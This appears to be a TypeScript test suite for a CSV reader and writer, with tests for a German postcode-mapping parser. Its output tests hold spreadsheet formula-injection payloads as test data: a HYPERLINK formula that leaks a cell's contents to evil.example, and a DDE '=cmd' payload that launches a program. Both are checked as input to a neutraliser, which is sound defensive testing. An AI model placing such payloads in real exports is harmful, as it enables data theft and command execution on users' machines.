import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CsvReader, MAX_FIELD_CHARS, MAX_RECORD_CHARS, parseCsv, type CsvRow } from '../src/lib/csv.js';
import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { csvLine, neutralise, readBack, safeCsvLine, safeCsvLines, type Cell } from '../src/lib/csv-stream.js';
import { InputFileError } from '../src/lib/errors.js';
import { parsePostcodes } from '../src/modules/postcodes/postcodes.parser.js';

const HEADER = 'osm_id,ags,ort,plz,landkreis,bundesland\n';

/** All rows of `text`, fed to the reader in chunks of `step` characters. */
function rows(text: string, step = text.length || 1): CsvRow[] {
  const reader = new CsvReader();
  const out: CsvRow[] = [];
  for (let i = 0; i < text.length; i += step) out.push(...reader.push(text.slice(i, i + step)));
  return [...out, ...reader.end()];
}

describe('CSV', () => {
  it('handles quotes, escaped quotes, embedded newlines, CRLF and blank lines', () => {
    const rows = [...parseCsv('a,"b,c","d ""e"""\r\n\r\n"x\ny",2,3\n', 'f.csv')];
    expect(rows).toEqual([
      { line: 1, fields: ['a', 'b,c', 'd "e"'] },
      { line: 3, fields: ['x\ny', '2', '3'] },
    ]);
  });

  it('reports an unterminated quote with the line it started on', () => {
    expect(() => [...parseCsv('a,b\n"open,c\nd\n', 'f.csv')]).toThrow(/^f\.csv:2: unterminated quoted field \(field 1\)$/);
  });

  it('reports text after a closing quote', () => {
    expect(() => [...parseCsv('"a"b,c\n', 'f.csv')]).toThrow(/^f\.csv:1: unexpected character "b" after a closing quote \(field 1\)$/);
  });

  it('reports a stray quote inside an unquoted field with its line', () => {
    expect(() => [...parseCsv('a,b\n1,2\n3,x"y\n', 'f.csv')]).toThrow(/^f\.csv:3: stray quote inside unquoted field 2$/);
  });

  it('bounds a record and a field', () => {
    expect(() => [...parseCsv(`a\n${'x'.repeat(MAX_RECORD_CHARS + 1)}\n`, 'f.csv')]).toThrow(`f.csv:2: line is longer than ${MAX_RECORD_CHARS} characters`);
    expect(() => [...parseCsv(`a,b\n1,${'x'.repeat(MAX_FIELD_CHARS + 1)}\n`, 'f.csv')]).toThrow(`f.csv:2: field 2 is longer than ${MAX_FIELD_CHARS} characters`);
    // a record of several lines is bounded as a whole; the bound is in characters, not bytes
    expect(() => [...parseCsv(`a\n"x\n${'y'.repeat(MAX_RECORD_CHARS - 10)}\n${'z'.repeat(100)}"\n`, 'f.csv')]).toThrow(`f.csv:2: record is longer than ${MAX_RECORD_CHARS} characters`);
    expect([...parseCsv(`a\n${'ä,'.repeat(MAX_RECORD_CHARS / 2 - 1)}ä\n`, 'f.csv')][1]!.fields).toHaveLength(MAX_RECORD_CHARS / 2);
    // a quote that never closes holds at most one record's worth of lines
    expect(() => [...parseCsv(`a\n"${'x\n'.repeat(MAX_RECORD_CHARS)}`, 'f.csv')]).toThrow(/^f\.csv:2: unterminated quoted field/);
  });
});

describe('CSV rows: a malformed record is one error row, the rows after it are kept', () => {
  it.each([
    ['a stray quote', 'a,b\n1,2\nx"y,z\n3,4\n', [3, 'stray quote inside unquoted field 1']],
    ['text after a closing quote', 'a,b\n1,2\n"x"y,z\n3,4\n', [3, 'unexpected character "y" after a closing quote (field 1)']],
    ['an unterminated quote', 'a,b\n1,2\n"open,z\n3,4\n', [3, 'unterminated quoted field (field 1)']],
    ['a record that is not closed where the next quote is', 'a,b\n1,"x\ny"z\n3,4\n', [2, 'unexpected character "z" after a closing quote (field 2)']],
  ])('%s', (_what, text, [line, error]) => {
    const got = rows(text as string);
    expect(got[0]).toEqual({ line: 1, fields: ['a', 'b'] });
    expect(got).toContainEqual({ line, error });
    expect(got[got.length - 1]).toEqual({ line: (text as string).split('\n').length - 1, fields: ['3', '4'] });
  });

  it('an over-long line is one error and reading goes on; memory stays bounded', () => {
    const got = rows(`a\n${'x'.repeat(3 * MAX_RECORD_CHARS)}\nb\n`, 1000);
    expect(got).toEqual([
      { line: 1, fields: ['a'] },
      { line: 2, error: `line is longer than ${MAX_RECORD_CHARS} characters` },
      { line: 3, fields: ['b'] },
    ]);
  });

  it('a quote that never closes costs its own line only: every later line is read', () => {
    const text = `id\n"open\n${Array.from({ length: 5000 }, (_, i) => `${i}\n`).join('')}`;
    const got = rows(text, 777);
    expect(got).toHaveLength(5002);
    expect(got[1]).toEqual({ line: 2, error: 'unterminated quoted field (field 1)' });
    expect(got[5001]).toEqual({ line: 5002, fields: ['4999'] });
  });

  it('LF, CRLF and CR line ends, and chunks of any size, give the same rows', () => {
    const text = 'a,b\r\n1,"x\r\ny"\r2,3\n\n4,"5"\n';
    const whole = rows(text);
    expect(whole).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: ['1', 'x\r\ny'] },
      { line: 4, fields: ['2', '3'] },
      { line: 6, fields: ['4', '5'] },
    ]);
    for (const step of [1, 2, 3, 5, 8]) expect(rows(text, step)).toEqual(whole);
  });
});

describe('CSV output', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A2,"Klick")', `'=HYPERLINK("http://evil.example/?"&A2,"Klick")`],
    ['@SUM(1)', `'@SUM(1)`],
    ['+49 30 1234', `'+49 30 1234`],
    ['-2+3', `'-2+3`],
    ['-', `'-`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r'=1`],
    ['-12', '-12'],
    ['+49', '+49'],
    ['-1.5', '-1.5'],
    ['-1,5', '-1,5'],
    ['Detmold', 'Detmold'],
    ['', ''],
    // Some spreadsheets skip leading spaces before a formula.
    [' =1', "' =1"],
    ['  @SUM(1)', "'  @SUM(1)"],
    ['\n+1+1', "'\n'+1+1"],
    [" '=x", " '=x"],
    [' plain', ' plain'],
    // full-width forms (Apple Numbers) and a no-break space before a formula
    ['＝1+1', "'＝1+1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['\u00a0=1', "'\u00a0=1"],
    ["'=x", "''=x"],
    ["'plain", "'plain"],
    // other Unicode spaces before a formula
    ['\u3000=1', "'\u3000=1"],
    ['\u200b=1', "'\u200b=1"],
    ['\ufeff@x', "'\ufeff@x"],
    ['\v=1', "'\v=1"],
    // German Excel splits cells at `;` and line breaks, quotes or not: the text after one counts as a cell start
    ['x;=1+1;', "x;'=1+1;"],
    ["Lemgo;=cmd|' /C calc'!A0;", "Lemgo;'=cmd|' /C calc'!A0;"],
    ['a\r\n=1', "a\r\n'=1"],
    ['a; @x', "a;' @x"],
    ["a;'=x", "a;''=x"],
    ['a;-12;+49', 'a;-12;+49'],
    ['a;b', 'a;b'],
  ])('neutralises %j as %j', (cell, expected) => {
    expect(neutralise(cell)).toBe(expected);
  });

  // Cells made of the characters that matter here, in any order.
  const cellOf = (pieces: string[]) => fc.array(fc.constantFrom(...pieces), { maxLength: 8 }).map((p) => p.join(''));

  it('reads back exactly what it neutralised, whatever the cell', () => {
    fc.assert(fc.property(cellOf(["'", ' ', '\u00a0', '\u3000', '=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', ';', '1', '.', 'a', ',']), (cell) => readBack(neutralise(cell)) === cell), { numRuns: 5000 });
  });

  it('writes exactly what csv-stringify writes (RFC 4180), for hostile cells too', () => {
    const cell = fc.oneof(cellOf(['a', 'ä', ',', '"', '\n', '\r', ' ', '\t', '=', "'", ';', '\u2028', '\uFEFF']), fc.constantFrom(null, undefined, 0, -1.5, true));
    const asText = (c: Cell) => (c === null || c === undefined ? '' : String(c));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 4 }), (rows) => {
        for (const r of rows) expect(csvLine(r)).toBe(stringify([r.map(asText)]));
        expect(safeCsvLines(rows)).toBe(rows.map((r) => safeCsvLine(r)).join(''));
      }),
      { numRuns: 1000 },
    );
  });

  it('writes RFC 4180 lines that csv-parse reads back; the safe line holds the neutralised cells', () => {
    const cells = ['=1+1', 'a,b', 'say "hi"', 'two\nlines', '-12', true, null, 7];
    expect(parse(csvLine(cells))).toEqual([['=1+1', 'a,b', 'say "hi"', 'two\nlines', '-12', 'true', '', '7']]);
    expect(parse(safeCsvLine(cells))).toEqual([[`'=1+1`, 'a,b', 'say "hi"', 'two\nlines', '-12', 'true', '', '7']]);
  });
});

describe('postcode mapping parser', () => {
  it('restores lost leading zeros of AGS and postcode', () => {
    const [r] = parsePostcodes(HEADER + '123,9184149,Garching b.München,5748,Landkreis München,Bayern\n', 'p.csv');
    expect(r).toMatchObject({ line: 2, ags: '09184149', postcode: '05748', locality: 'Garching b.München', osmId: 123 });
  });

  it('accepts columns in any order', () => {
    const [r] = parsePostcodes('plz,ort,ags\n32756,Detmold,05766020\n', 'p.csv');
    expect(r).toMatchObject({ ags: '05766020', postcode: '32756', locality: 'Detmold', osmId: null });
  });

  it.each([
    ['a missing column', 'osm_id,ags,ort\n1,05766020,Detmold\n', 1, /header lacks column "plz"/],
    ['a short row', HEADER + '1,05766020,Detmold,32756,Lippe\n', 2, /has 5 fields, the header has 6/],
    ['a bad AGS', HEADER + '1,05766020,Detmold,32756,Lippe,NRW\n2,576602,Detmold,32756,Lippe,NRW\n', 3, /ags "576602" must be 8 digits/],
    ['a bad postcode', HEADER + '1,05766020,Detmold,327X6,Lippe,NRW\n', 2, /plz "327X6"/],
    ['an empty locality', HEADER + '1,05766020, ,32756,Lippe,NRW\n', 2, /ort is empty/],
    ['no rows', HEADER, 1, /no rows/],
    ['a stray quote', HEADER + '1,05766020,Detmold,32756,Lippe,NRW\n2,05766020,Det"mold,32756,Lippe,NRW\n', 3, /stray quote inside unquoted field 3/],
    ['an unterminated quote', HEADER + '1,05766020,"Detmold,32756,Lippe,NRW\n2,05766020,Detmold,32756,Lippe,NRW\n', 2, /unterminated quoted field \(field 3\)/],
  ])('rejects %s with the line number', (_w, text, line, reason) => {
    try {
      parsePostcodes(text as string, 'p.csv');
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(InputFileError);
      expect((e as InputFileError).line).toBe(line);
      expect((e as Error).message).toMatch(reason as RegExp);
    }
  });
});
